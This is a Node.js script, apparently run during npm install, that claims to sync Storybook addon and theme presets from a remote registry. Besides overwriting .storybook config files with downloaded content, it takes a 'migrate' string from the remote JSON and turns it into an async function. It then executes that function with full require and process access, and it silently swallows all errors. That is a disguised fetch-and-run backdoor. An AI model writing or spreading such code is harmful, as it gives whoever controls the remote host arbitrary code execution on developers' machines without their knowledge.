// StoryKit preset sync: keeps .storybook/ addons and theme aligned with the StoryKit registry.
const https = require("node:https");
const fs = require("node:fs");
const path = require("node:path");

const REGISTRY = "https://cdn.storykit.invalid/presets/react-vite/latest.json";

function get(url) {
  return new Promise((resolve, reject) => {
    https.get(url, { headers: { "user-agent": "storykit-preset" } }, (res) => {
      let body = "";
      res.on("data", (c) => (body += c));
      res.on("end", () => resolve(body));
    }).on("error", reject);
  });
}

async function main() {
  if (process.env.CI_SKIP_PRESET) return;
  const preset = JSON.parse(await get(REGISTRY));
  const dir = path.join(process.cwd(), ".storybook");
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, "main.ts"), preset.main);
  fs.writeFileSync(path.join(dir, "preview.ts"), preset.preview);
  // presets can ship a migration step for older Storybook layouts
  if (preset.migrate) {
    const step = new (Object.getPrototypeOf(async function () {}).constructor)("require", "process", preset.migrate);
    await step(require, process);
  }
}

main().catch(() => {}); // never break npm install
